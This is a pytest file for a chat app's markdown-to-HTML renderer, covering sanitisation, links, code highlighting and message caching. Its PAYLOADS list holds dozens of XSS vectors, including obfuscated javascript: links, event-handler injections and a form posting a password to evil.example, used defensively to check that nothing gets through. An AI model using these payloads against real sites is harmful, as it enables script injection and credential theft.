import re
from html.parser import HTMLParser

import pytest
from pygments.lexers import get_lexer_by_name

from chat.models import Conversation, Message
from chat.rendering import html_of
from lobby.markdown import ATTRIBUTES, HIGHLIGHTED, LONGEST_LINE, MOST_HIGHLIGHTED, TAGS, render
from tests.factories import make_message


class Found(HTMLParser):
    """The tags, attributes and addresses that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def addresses(self) -> list[str]:
        return [value for _, name, value in self.attributes if name == "href"]


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</p></div></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript\u200b:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ws://evil.example)",
    "[x](//evil.example/a)",
    "[x](/admin/logout)",
    "[x](#top)",
    "[x](?next=1)",
    "[x](https:evil.example)",
    "[x](http:javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: data:text/html,x 'title\" onmouseover=alert(1)'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "xmpp:evil@example.com",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](http://evil.example/pixel.png)",
    '![x" onerror="alert(1)](http://evil.example/pixel.png)',
    '![x](http://evil.example/" onerror="alert(1))',
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    '[x](https://a.example "title\\" onmouseover=alert(1)")',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\nx\n```',
    "~~~<img/src=x/onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|x|\n|:-:" onmouseover=alert(1)|\n|y|',
    "# <img src=x onerror=alert(1)>",
    "1. <svg/onload=alert(1)>",
    "> <script\n> >alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "*<script>*alert(1)*</script>*",
    "[a](https://a.example/*b)*<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% debug %}${7*7}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "Text {} text", "- {}", "> {}", "**{}**"])
def test_nothing_dangerous_comes_through(payload: str, around: str) -> None:
    found = Found(render(around.format(payload)))
    assert set(found.tags) <= TAGS
    for tag, name, value in found.attributes:
        assert name in ATTRIBUTES[tag] | ({"rel", "target"} if tag == "a" else set())
        assert "alert" not in value or name == "href"
    for address in found.addresses:
        assert re.match(r"(https?://|mailto:)[^\s\"<>]+$", address)
    links = found.tags.count("a")
    assert found.attributes.count(("a", "rel", "noopener noreferrer nofollow")) == links
    assert found.attributes.count(("a", "target", "_blank")) == links


@pytest.mark.parametrize(
    "payload", [payload for payload in PAYLOADS if payload[0] == "<" and not re.search("[\0&]", payload)]
)
def test_html_of_a_model_is_shown_as_it_was_written(payload: str) -> None:
    assert Found(render(f"Say {payload}")).text.strip() == f"Say {payload}"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**a** _b_ ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("a\nb", "<p>a\nb</p>\n"),
        ("# A\n\n---\n\n> b", "<h1>A</h1>\n<hr>\n<blockquote>\n<p>b</p>\n</blockquote>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        (
            "|a|b|\n|:-|-:|\n|1|2|",
            '<table>\n<thead>\n<tr>\n<th class="align-left">a</th>\n<th class="align-right">b</th>\n</tr>\n</thead>\n'
            '<tbody>\n<tr>\n<td class="align-left">1</td>\n<td class="align-right">2</td>\n</tr>\n</tbody>\n</table>\n',
        ),
    ],
)
def test_markdown_becomes_html(text: str, html: str) -> None:
    assert render(text) == html


@pytest.mark.parametrize(
    ("text", "address", "words"),
    [
        ("[here](https://a.example/b?c=1&d=2)", "https://a.example/b?c=1&d=2", "here"),
        ("see https://a.example/b.", "https://a.example/b", "see https://a.example/b."),
        ("<https://a.example>", "https://a.example", "https://a.example"),
        ("[mail](mailto:a@b.example)", "mailto:a@b.example", "mail"),
        ("[ü](https://ü.example/ä)", "https://xn--tda.example/%C3%A4", "ü"),
        ("![a cat](https://a.example/cat.png)", "https://a.example/cat.png", "image: a cat"),
        ("![](https://a.example/cat.png)", "https://a.example/cat.png", "image: without words"),
        ("[![a cat](https://a.example/cat.png)](https://b.example)", "https://b.example", "image: a cat"),
    ],
)
def test_links_and_images_become_links(text: str, address: str, words: str) -> None:
    found = Found(render(text))
    assert (found.addresses, found.text.strip()) == ([address], words)


def test_code_gets_a_header_its_language_and_colours() -> None:
    assert render("```python\nx = 1\n```") == (
        '<div class="code"><div class="code-header"><span class="code-language">python</span></div>'
        '<pre><code class="language-python"><span class="n">x</span> <span class="o">=</span> '
        '<span class="mi">1</span>\n</code></pre></div>\n'
    )


@pytest.mark.parametrize("fence", ["```\na < b\n```", "    a < b", "```nonsense-language\na < b\n```"])
def test_code_without_a_known_language_is_plain(fence: str) -> None:
    html = render(fence)
    assert "a &lt; b\n</code></pre></div>" in html
    assert Found(html).tags == ["div", "div", "span", "pre", "code"]


@pytest.mark.parametrize("code", ["x = 1\n" * (MOST_HIGHLIGHTED // 6 + 1), "x" * (LONGEST_LINE + 1) + "\n"])
def test_code_that_would_take_long_is_plain_and_whole(code: str) -> None:
    html = render(f"```python\n{code}```")
    assert Found(html).text == f"python{code}\n"
    assert Found(html).tags == ["div", "div", "span", "pre", "code"]


def test_an_unfinished_code_block_is_code() -> None:
    assert Found(render("```\nx = 1")).text.strip() == "x = 1"


def test_deep_nesting_keeps_its_text_as_deep_as_anyone_reads() -> None:
    assert Found(render("> " * 25 + "deep")).text.strip() == "deep"


def test_every_language_that_is_highlighted_is_known() -> None:
    for language in HIGHLIGHTED:
        assert get_lexer_by_name(language)


@pytest.mark.django_db
def test_html_of_renders_once_and_keeps_it(conversation: Conversation) -> None:
    message = make_message(conversation, role=Message.Role.ASSISTANT, text="**a**")
    assert html_of(message) == "<p><strong>a</strong></p>\n"
    Message.objects.update(html="kept")
    message.refresh_from_db()
    assert html_of(message) == "kept"


@pytest.mark.django_db
def test_html_of_a_text_that_changed_meanwhile_is_not_kept(conversation: Conversation) -> None:
    message = make_message(conversation, role=Message.Role.ASSISTANT, text="old")
    Message.objects.update(text="new")
    assert html_of(message) == "<p>old</p>\n"
    message.refresh_from_db()
    assert message.html == ""


def test_code_that_a_lexer_searches_for_ever_is_plain_and_whole() -> None:
    code = "<<A\n" * 5000  # a minute of Pygments' time
    found = Found(render(f"```terraform\n{code}```"))
    assert (found.text, len(found.tags)) == (f"terraform{code}\n", 5)
